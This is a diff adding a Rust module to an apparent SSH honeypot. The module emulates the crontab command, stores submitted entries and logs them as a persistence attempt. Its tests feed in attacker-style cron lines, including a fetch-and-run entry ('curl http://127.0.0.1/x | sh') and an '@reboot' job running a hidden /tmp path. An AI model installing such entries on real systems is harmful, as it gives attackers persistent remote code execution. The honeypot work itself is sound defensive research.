@@ -0,0 +1,371 @@
+use std::path::{Path, PathBuf};
+
+use async_trait::async_trait;
+use pisshoff_types::audit::{AuditLogAction, CronInstalledEvent};
+use thrussh::ChannelId;
+
+use crate::{
+    command::{Arg, Command, CommandResult},
+    server::{ConnectionState, ThrusshSession},
+};
+
+/// Directory crontabs are stored in, one file per user.
+const CRONTAB_DIRECTORY: &str = "/var/spool/cron/crontabs";
+
+const USAGE: &str = "usage:\tcrontab [-u user] file
+\tcrontab [ -u user ] [ -i ] { -e | -l | -r }
+\t\t(default operation is replace, per 1003.2)
+\t-e\t(edit user's crontab)
+\t-l\t(list user's crontab)
+\t-r\t(delete user's crontab)
+\t-i\t(prompt before deleting user's crontab)
+";
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Operation {
+    Replace,
+    Edit,
+    List,
+    Remove,
+}
+
+#[derive(Debug, Clone)]
+pub struct Crontab {
+    user: String,
+    /// Everything received on stdin so far, which is installed as the user's crontab.
+    content: Vec<u8>,
+    /// Offset into `content` up to which lines have been installed.
+    installed: usize,
+}
+
+#[async_trait]
+impl Command for Crontab {
+    async fn new<S: ThrusshSession + Send>(
+        connection: &mut ConnectionState,
+        params: &[String],
+        channel: ChannelId,
+        session: &mut S,
+    ) -> CommandResult<Self> {
+        let mut operation = Operation::Replace;
+        let mut user = None;
+        let mut file = None;
+
+        let mut args = super::argparse(params);
+
+        while let Some(param) = args.next() {
+            match param {
+                Arg::Short('e') => operation = Operation::Edit,
+                Arg::Short('l') => operation = Operation::List,
+                Arg::Short('r') => operation = Operation::Remove,
+                Arg::Short('i') => {}
+                Arg::Short('u') => {
+                    let Some(Arg::Operand(u)) = args.next() else {
+                        session.stderr(
+                            channel,
+                            format!("crontab: option requires an argument -- 'u'\n{USAGE}").into(),
+                        );
+                        return CommandResult::Exit(1);
+                    };
+
+                    user = Some(u.to_string());
+                }
+                Arg::Operand(v) => file = Some(v.to_string()),
+                Arg::Short(c) => {
+                    session.stderr(
+                        channel,
+                        format!("crontab: invalid option -- '{c}'\n{USAGE}").into(),
+                    );
+                    return CommandResult::Exit(1);
+                }
+                Arg::Long(v) => {
+                    session.stderr(
+                        channel,
+                        format!("crontab: unrecognized option '--{v}'\n{USAGE}").into(),
+                    );
+                    return CommandResult::Exit(1);
+                }
+            }
+        }
+
+        if user.as_deref().is_some_and(|v| v != connection.username())
+            && connection.username() != "root"
+        {
+            session.stderr(channel, "must be privileged to use -u\n".into());
+            return CommandResult::Exit(1);
+        }
+
+        let user = user.unwrap_or_else(|| connection.username().to_string());
+        let path = crontab_path(&user);
+
+        match (operation, file.as_deref()) {
+            (Operation::List, _) => {
+                if let Ok(content) = connection.file_system().read(&path) {
+                    session.data(channel, content.to_vec().into());
+                    CommandResult::Exit(0)
+                } else {
+                    session.stderr(channel, format!("no crontab for {user}\n").into());
+                    CommandResult::Exit(1)
+                }
+            }
+            (Operation::Remove, _) => {
+                if connection.file_system().remove(&path).is_ok() {
+                    CommandResult::Exit(0)
+                } else {
+                    session.stderr(channel, format!("no crontab for {user}\n").into());
+                    CommandResult::Exit(1)
+                }
+            }
+            (Operation::Replace, None) => {
+                session.stderr(
+                    channel,
+                    format!(
+                        "crontab: usage error: file name must be specified for replace\n{USAGE}"
+                    )
+                    .into(),
+                );
+                CommandResult::Exit(1)
+            }
+            (Operation::Replace, Some(file)) if file != "-" => {
+                let content = match connection.file_system().read(Path::new(file)) {
+                    Ok(content) => content.to_vec(),
+                    Err(e) => {
+                        session.stderr(channel, format!("{file}: {e}\n").into());
+                        return CommandResult::Exit(1);
+                    }
+                };
+
+                install(connection, &user, &content, &content, Some(file));
+                CommandResult::Exit(0)
+            }
+            (Operation::Edit | Operation::Replace, _) => {
+                // there's no editor to open, so the new crontab is read from stdin instead
+                if operation == Operation::Edit && connection.file_system().read(&path).is_err() {
+                    session.stderr(
+                        channel,
+                        format!("no crontab for {user} - using an empty one\n").into(),
+                    );
+                }
+
+                CommandResult::ReadStdin(Self {
+                    user,
+                    content: Vec::new(),
+                    installed: 0,
+                })
+            }
+        }
+    }
+
+    async fn stdin<S: ThrusshSession + Send>(
+        mut self,
+        connection: &mut ConnectionState,
+        _channel: ChannelId,
+        data: &[u8],
+        _session: &mut S,
+    ) -> CommandResult<Self> {
+        // ^D ends the input
+        let (data, eof) = match data.iter().position(|c| *c == 0x04) {
+            Some(i) => (&data[..i], true),
+            None => (data, false),
+        };
+
+        self.content.extend_from_slice(data);
+
+        // only install complete lines, unless the input has ended
+        let end = if eof {
+            self.content.len()
+        } else {
+            self.content
+                .iter()
+                .rposition(|c| *c == b'\n')
+                .map_or(self.installed, |i| i + 1)
+        };
+
+        if end > self.installed {
+            install(
+                connection,
+                &self.user,
+                &self.content[..end],
+                &self.content[self.installed..end],
+                None,
+            );
+            self.installed = end;
+        }
+
+        if eof {
+            CommandResult::Exit(0)
+        } else {
+            CommandResult::ReadStdin(self)
+        }
+    }
+}
+
+fn crontab_path(user: &str) -> PathBuf {
+    Path::new(CRONTAB_DIRECTORY).join(user)
+}
+
+/// Replaces the user's crontab with `crontab`, auditing the newly added `entries`.
+fn install(
+    connection: &mut ConnectionState,
+    user: &str,
+    crontab: &[u8],
+    entries: &[u8],
+    source: Option<&str>,
+) {
+    connection.push_action(AuditLogAction::CronInstalled(CronInstalledEvent {
+        user: Box::from(user),
+        source: source.map(Box::from),
+        content: Box::from(String::from_utf8_lossy(entries)),
+    }));
+    connection.tag("cron_persistence", "1");
+
+    let fs = connection.file_system();
+    let _res = fs.mkdirall(Path::new(CRONTAB_DIRECTORY));
+    let _res = fs.write(&crontab_path(user), crontab.into());
+}
+
+#[cfg(test)]
+mod test {
+    use std::path::Path;
+
+    use mockall::predicate::always;
+
+    use crate::{
+        command::{crontab::Crontab, Command, CommandResult},
+        server::{
+            test::{fake_channel_id, predicate::eq_string},
+            ConnectionState, MockThrusshSession,
+        },
+    };
+
+    #[tokio::test]
+    async fn list_empty() {
+        let mut session = MockThrusshSession::default();
+
+        session
+            .expect_stderr()
+            .once()
+            .with(always(), eq_string("no crontab for root\n"))
+            .returning(|_, _| ());
+
+        let out = Crontab::new(
+            &mut ConnectionState::mock(),
+            ["-l".to_string()].as_slice(),
+            fake_channel_id(),
+            &mut session,
+        )
+        .await;
+
+        assert!(matches!(out, CommandResult::Exit(1)), "{out:?}");
+    }
+
+    #[tokio::test]
+    async fn install_file() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+
+        state
+            .file_system()
+            .write(
+                Path::new("cron"),
+                "* * * * * /tmp/.x/run\n".as_bytes().into(),
+            )
+            .unwrap();
+
+        let out = Crontab::new(
+            &mut state,
+            ["cron".to_string()].as_slice(),
+            fake_channel_id(),
+            &mut session,
+        )
+        .await;
+        assert!(matches!(out, CommandResult::Exit(0)), "{out:?}");
+
+        session
+            .expect_data()
+            .once()
+            .with(always(), eq_string("* * * * * /tmp/.x/run\n"))
+            .returning(|_, _| ());
+
+        let out = Crontab::new(
+            &mut state,
+            ["-l".to_string()].as_slice(),
+            fake_channel_id(),
+            &mut session,
+        )
+        .await;
+        assert!(matches!(out, CommandResult::Exit(0)), "{out:?}");
+    }
+
+    #[tokio::test]
+    async fn install_stdin() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+
+        let out = Crontab::new(
+            &mut state,
+            ["-".to_string()].as_slice(),
+            fake_channel_id(),
+            &mut session,
+        )
+        .await
+        .unwrap_stdin();
+
+        let out = out
+            .stdin(
+                &mut state,
+                fake_channel_id(),
+                b"@reboot /tmp/.x/run\n*/5 * * * * cu",
+                &mut session,
+            )
+            .await
+            .unwrap_stdin();
+
+        let out = out
+            .stdin(
+                &mut state,
+                fake_channel_id(),
+                b"rl http://127.0.0.1/x | sh\n\x04",
+                &mut session,
+            )
+            .await;
+        assert!(matches!(out, CommandResult::Exit(0)), "{out:?}");
+
+        assert_eq!(
+            state
+                .file_system()
+                .read(Path::new("/var/spool/cron/crontabs/root"))
+                .unwrap(),
+            b"@reboot /tmp/.x/run\n*/5 * * * * curl http://127.0.0.1/x | sh\n"
+        );
+
+        insta::with_settings!({filters => vec![
+            (r"\bstart_offset: [^,]+", "start_offset: [stripped]"),
+            (r"\bsequence: Some\(\s*\d+,\s*\)", "sequence: [stripped]")
+        ]}, {
+            insta::assert_debug_snapshot!(state.audit_log());
+        });
+    }
+
+    #[tokio::test]
+    async fn other_user_unprivileged() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+        state.set_username("ubuntu");
+
+        session
+            .expect_stderr()
+            .once()
+            .with(always(), eq_string("must be privileged to use -u\n"))
+            .returning(|_, _| ());
+
+        let out = Crontab::new(
+            &mut state,
+            ["-u".to_string(), "root".to_string(), "-l".to_string()].as_slice(),
+            fake_channel_id(),
+            &mut session,
+        )
+        .await;
+
+        assert!(matches!(out, CommandResult::Exit(1)), "{out:?}");
+    }
+}